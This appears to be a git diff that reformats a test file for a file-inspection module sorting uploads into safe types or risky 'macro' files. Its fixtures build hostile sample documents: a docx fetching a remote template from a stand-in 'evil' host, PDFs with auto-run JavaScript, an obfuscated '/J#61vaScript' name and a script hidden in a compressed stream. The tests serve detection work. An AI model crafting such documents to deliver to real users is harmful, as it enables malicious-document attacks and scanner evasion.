@@ -4,16 +4,23 @@ import { describe, expect, it } from 'vitest';
 import { keptName } from './file-kinds.ts';
 import { inspect } from './inspect.ts';
 
-const contentTypes = (type: string) => `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.${type}.main+xml"/></Types>`;
+const contentTypes = (type: string) =>
+  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.${type}.main+xml"/></Types>`;
 const word = 'openxmlformats-officedocument.wordprocessingml.document';
 
 function docx(parts: Record<string, string> = {}, type = word): Buffer {
-  const all = { '[Content_Types].xml': contentTypes(type), '_rels/.rels': '<Relationships/>', 'word/document.xml': '<w:document/>', ...parts };
+  const all = {
+    '[Content_Types].xml': contentTypes(type),
+    '_rels/.rels': '<Relationships/>',
+    'word/document.xml': '<w:document/>',
+    ...parts,
+  };
   return Buffer.from(zipSync(Object.fromEntries(Object.entries(all).map(([name, text]) => [name, strToU8(text)]))));
 }
 
 const pdf = (...objects: string[]) => Buffer.from(`%PDF-1.7\n${objects.join('\n')}\ntrailer << /Root 1 0 R >>\n%%EOF`, 'latin1');
-const packed = (text: string) => `5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${deflateSync(Buffer.from(text)).toString('latin1')}\nendstream endobj`;
+const packed = (text: string) =>
+  `5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${deflateSync(Buffer.from(text)).toString('latin1')}\nendstream endobj`;
 
 const box = (type: string, content: Buffer) => {
   const head = Buffer.alloc(8);
@@ -22,8 +29,15 @@ const box = (type: string, content: Buffer) => {
   return Buffer.concat([head, content]);
 };
 const handler = (kind: string) => box('hdlr', Buffer.concat([Buffer.alloc(8), Buffer.from(kind), Buffer.alloc(12)]));
-const m4a = (...boxes: Buffer[]) => Buffer.concat([box('ftyp', Buffer.from('M4A \0\0\0\0M4A mp42isom')), box('moov', Buffer.concat(boxes))]);
-const webm = (codec: string) => Buffer.concat([Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581', 'hex'), Buffer.from([2]), Buffer.from(`\x18S\x80g${codec}`, 'latin1'), Buffer.alloc(200)]);
+const m4a = (...boxes: Buffer[]) =>
+  Buffer.concat([box('ftyp', Buffer.from('M4A \0\0\0\0M4A mp42isom')), box('moov', Buffer.concat(boxes))]);
+const webm = (codec: string) =>
+  Buffer.concat([
+    Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581', 'hex'),
+    Buffer.from([2]),
+    Buffer.from(`\x18S\x80g${codec}`, 'latin1'),
+    Buffer.alloc(200),
+  ]);
 
 const typeOf = async (bytes: Buffer) => (await inspect(bytes)).mediaType;
 
@@ -32,7 +46,14 @@ describe('inspecting a content', () => {
     ['docx', docx(), `application/vnd.${word}`],
     ['OFD', Buffer.from(zipSync({ 'OFD.xml': strToU8('<ofd:OFD/>'), 'Doc_0/Document.xml': strToU8('<x/>') })), 'application/ofd'],
     ['PDF', pdf('1 0 obj << /Type /Catalog >> endobj'), 'application/pdf'],
-    ['PDF with links and a picture whose bytes spell a name', pdf('1 0 obj << /A << /S /URI /URI (https://x) >> >> endobj', '2 0 obj << /Length 20 >>\nstream\n/JavaScript\xff\xfe\nendstream endobj'), 'application/pdf'],
+    [
+      'PDF with links and a picture whose bytes spell a name',
+      pdf(
+        '1 0 obj << /A << /S /URI /URI (https://x) >> >> endobj',
+        '2 0 obj << /Length 20 >>\nstream\n/JavaScript\xff\xfe\nendstream endobj',
+      ),
+      'application/pdf',
+    ],
     ['sound out of a phone', m4a(handler('soun')), 'audio/mp4'],
     ['sound out of a browser', webm('A_OPUS'), 'audio/webm'],
   ])('takes %s', async (_name, bytes, type) => {
@@ -51,7 +72,14 @@ describe('inspecting a content', () => {
     ['a macro under another name for its type', docx({}, 'ms-word.document.macroEnabled'), 'file.macro'],
     ['docx with a control', docx({ 'word/activeX/activeX1.xml': 'x' }), 'file.macro'],
     ['docx with an embedded program', docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'file.macro'],
-    ['docx that fetches its template', docx({ 'word/_rels/settings.xml.rels': '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>' }), 'file.macro'],
+    [
+      'docx that fetches its template',
+      docx({
+        'word/_rels/settings.xml.rels':
+          '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>',
+      }),
+      'file.macro',
+    ],
     ['PDF with a script', pdf('1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'), 'file.macro'],
     ['PDF with a script in disguise', pdf('1 0 obj << /S /J#61vaScript >> endobj'), 'file.macro'],
     ['PDF with a script in a packed object', pdf('1 0 obj << >> endobj', packed('1 0 << /S /JavaScript /JS (x) >>')), 'file.macro'],
